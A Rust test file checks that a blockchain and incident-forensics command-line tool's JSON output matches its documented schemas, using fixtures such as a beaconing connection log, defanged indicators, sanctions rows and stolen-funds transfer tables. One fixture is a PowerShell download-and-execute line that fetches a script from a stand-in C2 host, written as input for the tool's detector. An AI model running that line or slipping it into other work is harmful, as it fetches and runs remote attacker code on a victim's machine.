//! docs/output.md against what `--json` prints: every field that goes out stands there, and every field that
//! stands there goes out.

use crate::coins;
use crate::run::{arg, strongroom};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::Path;
use strongroom_desk::demo;
use tempfile::tempdir;

const DOCUMENT: &str = include_str!("../../../../docs/output.md");
const CASHADDR: &str = "bitcoincash:qpm2qsznhks23z7629mms6s4cwef74vcwvy22gdx6a";
/// The same key as Bitcoin spells it.
const LEGACY: &str = "1BpEi6DfDAUFd7GtittLSdBeYJvcoaVggu";

/// A field: whether it may be left out, and the fields of each object in it, where the document lists them.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
struct Field {
    optional: bool,
    inner: BTreeMap<String, Field>,
}

/// Stands for fields that the document leaves to the docs of the code.
const AND_MORE: &str = "…";

/// Returns the names between a text's first braces, each with what it holds: `{a, b?, c:[{d}]}`.
fn braces(text: &str) -> BTreeMap<String, Field> {
    let mut fields = BTreeMap::new();
    let Some(open) = text.find('{') else {
        return fields;
    };
    let (mut depth, mut begin) = (0, open + 1);
    for (at, letter) in text.char_indices().skip_while(|(at, _)| *at < open) {
        match letter {
            '{' | '[' => depth += 1,
            '}' | ']' => depth -= 1,
            _ => {}
        }
        if letter == ',' && depth == 1 || depth == 0 {
            let part = text[begin..at].trim();
            let name: String = part
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '…'))
                .collect();
            assert!(!name.is_empty(), "{part:?} in {text:?} names no field");
            let optional = name == AND_MORE || part[name.len()..].starts_with('?');
            fields.insert(
                name,
                Field {
                    optional,
                    inner: braces(part),
                },
            );
            begin = at + 1;
        }
        if depth == 0 {
            break;
        }
    }
    fields
}

/// Returns the words between backticks.
fn ticked(text: &str) -> Vec<&str> {
    text.split('`').skip(1).step_by(2).collect()
}

/// Returns the documented fields of a schema: the first column of its table, and what the second says they hold.
fn documented(schema: &str) -> BTreeMap<String, Field> {
    let heading = format!("\n## `{schema}`\n");
    let section = DOCUMENT
        .split_once(&heading)
        .unwrap_or_else(|| panic!("no heading {schema}"))
        .1;
    let section = section.split("\n## ").next().unwrap();
    let mut fields = BTreeMap::new();
    for row in section.lines().filter(|line| line.starts_with("| `")) {
        let (names, what) = row.trim_matches('|').split_once('|').unwrap();
        // Only a form that stands first is the field's own.
        let form = what
            .trim_start()
            .strip_prefix('`')
            .filter(|form| form.starts_with(['{', '[']));
        let inner = form
            .and_then(|form| form.split('`').next())
            .map(braces)
            .unwrap_or_default();
        for name in ticked(names) {
            let optional = name.ends_with('?');
            let name = name.trim_end_matches('?').to_owned();
            fields.insert(
                name,
                Field {
                    optional,
                    inner: inner.clone(),
                },
            );
        }
    }
    assert!(!fields.is_empty(), "{schema} has no table");
    fields
}

/// Compares objects with the fields that they should have; `place` leads to them.
fn compare(place: &str, objects: &[&Value], fields: &BTreeMap<String, Field>, faults: &mut BTreeSet<String>) {
    let open = fields.contains_key(AND_MORE);
    for object in objects {
        let keys: BTreeSet<&String> = object
            .as_object()
            .unwrap_or_else(|| panic!("{place}: {object}"))
            .keys()
            .collect();
        let strangers = keys
            .iter()
            .filter(|key| ***key != "schema" && !open && !fields.contains_key(**key));
        for key in strangers {
            faults.insert(format!("{place}.{key} goes out and is not documented"));
        }
        for (name, field) in fields {
            if !field.optional && !keys.contains(name) {
                faults.insert(format!(
                    "{place}.{name} is documented and does not go out: {object}"
                ));
            }
        }
    }
    for (name, field) in fields.iter().filter(|(_, field)| !field.inner.is_empty()) {
        let held: Vec<&Value> = objects.iter().filter_map(|object| object.get(name)).collect();
        let held: Vec<&Value> = held
            .into_iter()
            .flat_map(elements)
            .filter(|one| one.is_object())
            .collect();
        compare(&format!("{place}.{name}"), &held, &field.inner, faults);
    }
}

fn elements(value: &Value) -> Vec<&Value> {
    match value {
        Value::Array(all) => all.iter().collect(),
        one => vec![one],
    }
}

/// Compares a verb's lines with the document.
fn agrees(schema: &str, args: &[&str]) -> Vec<Value> {
    let ran = strongroom(args);
    let lines = ran.json();
    assert!(!lines.is_empty(), "{args:?}: {}", ran.err);
    assert!(
        lines.iter().all(|line| line["schema"] == schema),
        "{args:?}: {}",
        ran.out
    );
    agree(schema, &lines, args);
    lines
}

/// Compares lines of one schema with the document.
fn agree(schema: &str, lines: &[Value], args: &[&str]) {
    let mut faults = BTreeSet::new();
    let lines: Vec<&Value> = lines.iter().collect();
    compare(schema, &lines, &documented(schema), &mut faults);
    let all: Vec<String> = faults
        .into_iter()
        .map(|fault| fault.chars().take(300).collect())
        .collect();
    assert!(all.is_empty(), "{args:?}:\n{}", all.join("\n"));
}

fn write(folder: &Path, name: &str, text: &str) -> String {
    let path = folder.join(name);
    fs::write(&path, text).unwrap();
    arg(&path).to_owned()
}

#[test]
fn what_the_document_says_is_read_as_it_is_meant() {
    let fields = braces("[{a, b?, c:[{d, e}], f}] and {g}");
    assert_eq!(fields.keys().collect::<Vec<_>>(), ["a", "b", "c", "f"]);
    assert!(fields["b"].optional && !fields["a"].optional);
    assert_eq!(fields["c"].inner.keys().collect::<Vec<_>>(), ["d", "e"]);
    let mut faults = BTreeSet::new();
    let given = serde_json::json!({"a": 1, "c": [{"d": 1}], "x": 1});
    compare("s", &[&given], &fields, &mut faults);
    let told: Vec<&str> = faults
        .iter()
        .map(|fault| fault.split(' ').next().unwrap())
        .collect();
    assert_eq!(told, ["s.c.e", "s.f", "s.x"]);
}

#[test]
fn every_verb_prints_the_fields_of_its_schema() {
    let folder = tempdir().unwrap();
    let here = folder.path();
    let script = write(
        here,
        "run.ps1",
        "iex (New-Object Net.WebClient).DownloadString('http://c2.example/a.php')\n",
    );
    let reports = agrees("strongroom.report/1", &["inspect", "--json", &script]);
    assert!(!reports[0]["findings"].as_array().unwrap().is_empty() && reports[0]["scripts"][0].is_object());
    let report = write(
        here,
        "report.txt",
        "Indicators\n\nhxxp://c2[.]example/a and 203.0.113[.]7\n",
    );
    agrees("strongroom.report/1", &["intel", "--json", &report]);

    let mut log = "#separator \\x09\n#path\tconn\n#fields\tts\tid.orig_h\tid.resp_h\tid.resp_p\n".to_owned();
    for call in 0..240 {
        let ts = 1_553_389_200 + call * 60;
        log += &format!("{ts}.5\t10.0.0.5\t203.0.113.7\t443\n{ts}.5\t10.0.0.6\t10.0.0.9\t443\n");
    }
    let log = write(here, "conn.log", &(log + "x\n"));
    let lines = agrees(
        "strongroom.network/1",
        &["network", "--json", "--known", &report, &log],
    );
    for filled in ["beacons", "set_aside", "contacts", "read"] {
        assert!(lines[0][filled][0].is_object(), "{filled}: {}", lines[0]);
    }

    let remarks = format!("Digital Currency Address - XBT {LEGACY}.");
    let row = format!("7,\"EXAMPLE\",-0- ,\"TEST\",{}\"{remarks}\"\n", "-0- ,".repeat(7));
    let sdn = write(here, "sdn.csv", &row);
    let tags = write(
        here,
        "tags.csv",
        &format!("address,label,service\n{LEGACY},Example,exchange\n"),
    );
    let lists = [
        "screen",
        "--json",
        "--list",
        &sdn,
        "--list",
        &tags,
        CASHADDR,
        "0x12",
        "--name",
        "EXAMPEL 5",
        "--born",
        "1971-03-28",
        "--country",
        "Atlantis",
        "--threshold",
        "0.5",
    ];
    let lines = agrees("strongroom.screening/1", &lists);
    assert!(
        lines[0]["hits"][0].is_object()
            && lines[0]["tags"][0].is_object()
            && lines[2]["candidates"][0].is_object(),
        "{}",
        lines[0]
    );
}

#[test]
fn an_exposure_prints_the_fields_of_its_schema() {
    let folder = tempdir().unwrap();
    let table = "time,tx,from,to,asset,amount\n1,t1,thief,mule,XEM,9\n2,t2,mule,wallet,XEM,5\n";
    let table = write(folder.path(), "transfers.csv", table);
    let tags = "address,label,service,confidence,date\nthief,Example,sanctioned,high,2019-03-24\n";
    let tags = write(folder.path(), "tags.csv", tags);
    let ledger = arg(&folder.path().join("ledger")).to_owned();
    strongroom(["ledger", "import", &ledger, &table]);
    let args = [
        "screen", "--json", "--list", &tags, "--ledger", &ledger, "--hops", "3", "wallet", "nobody",
    ];
    let ran = strongroom(args);
    let lines = ran.json();
    let (asked, exposed): (Vec<Value>, Vec<Value>) = lines
        .into_iter()
        .partition(|line| line["schema"] == "strongroom.screening/1");
    assert_eq!((asked.len(), exposed.len()), (2, 2), "{}", ran.out);
    agree("strongroom.exposure/1", &exposed, &args);
    assert_eq!(
        exposed[0]["received"][0]["parts"][0]["amount"], "5",
        "{}",
        exposed[0]
    );
}

#[test]
fn lists_and_books_print_the_fields_of_their_schemas() {
    crate::lists::every_schema(|schema, args| {
        agrees(schema, args);
    });
}

#[test]
fn ledgers_and_traces_print_the_fields_of_their_schemas() {
    let folder = tempdir().unwrap();
    let here = folder.path();
    let ledger = arg(&here.join("ledger")).to_owned();
    let table = write(
        here,
        "transfers.csv",
        "time,tx,from,to,asset,amount,fee\n2019-03-24T01:00:00Z,t1,hot,thief,ETH,100,0\n\
         2019-03-24T03:00:00Z,t3,thief,deposit,ETH,120,1\n2019-03-24T03:00:00Z,t4,thief,x,ETH,lots,1\n",
    );
    let tags = write(
        here,
        "tags.csv",
        "address,label,service\ndeposit,Example,exchange\n",
    );
    agrees(
        "strongroom.import/1",
        &["ledger", "import", "--json", &ledger, &table],
    );
    agrees("strongroom.ledger/1", &["ledger", "info", "--json", &ledger]);
    agrees("strongroom.ledger/1", &["ledger", "verify", "--json", &ledger]);
    let into = arg(&here.join("parquet")).to_owned();
    agrees(
        "strongroom.export/1",
        &["ledger", "export", "--json", &ledger, &into],
    );
    let trace = ["trace", "--json", &ledger, "--from", "thief", "--tags", &tags];
    let lines = agrees("strongroom.trace/1", &trace);
    for filled in ["seeds", "ends", "flows", "steps", "openings"] {
        assert!(
            lines.iter().any(|line| line[filled][0].is_object()),
            "{filled}: {}",
            lines[0]
        );
    }
}

#[test]
fn clusters_peels_and_deposits_print_the_fields_of_their_schemas() {
    let (folder, ledger, tags) = coins::peeled();
    let (ledger, tags) = (arg(&ledger), arg(&tags));
    let (one, other) = (coins::address(1), coins::address(2));
    let cluster = ["ledger", "cluster", "--json", ledger, &one, "--why", &other];
    let lines = agrees("strongroom.cluster/1", &cluster);
    assert!(lines[0]["why"][0].is_object(), "{}", lines[0]);
    let stolen = format!("{}:2", "01".repeat(32));
    let lines = agrees(
        "strongroom.peels/1",
        &["ledger", "peels", "--json", ledger, &stolen],
    );
    assert!(lines[0]["peels"][0]["links"][0].is_object(), "{}", lines[0]);
    let trace = [
        "trace",
        "--json",
        ledger,
        "--from",
        &stolen,
        "--tags",
        tags,
        "--clusters",
    ];
    let lines = agrees("strongroom.trace/1", &trace);
    let ends = lines[0]["ends"].as_array().unwrap();
    assert!(
        ends.iter().any(|end| end["cluster"]["why"][0].is_object()),
        "{}",
        lines[0]
    );
    let (table, ledger, tags) = coins::deposits(&folder);
    strongroom(["ledger", "import", arg(&ledger), arg(&table)]);
    let deposits = ["ledger", "deposits", "--json", arg(&ledger), "--tags", arg(&tags)];
    let lines = agrees("strongroom.deposits/1", &deposits);
    assert!(lines[0]["deposits"][0].is_object(), "{}", lines[0]);
}

#[test]
fn a_case_prints_the_fields_of_its_schema() {
    let folder = tempdir().unwrap();
    let (evidence, case) = (folder.path().join("evidence"), folder.path().join("case"));
    demo::write(&evidence, 11).unwrap();
    let lines = agrees(
        "strongroom.case/1",
        &["investigate", "--json", arg(&evidence), "--case", arg(&case)],
    );
    let written: Value = serde_json::from_slice(&fs::read(case.join("report.json")).unwrap()).unwrap();
    assert!(written == lines[0], "report.json and --json differ");
    agrees("strongroom.case/1", &["case", "show", "--json", arg(&case)]);
    agrees("strongroom.verify/1", &["case", "verify", "--json", arg(&case)]);
}
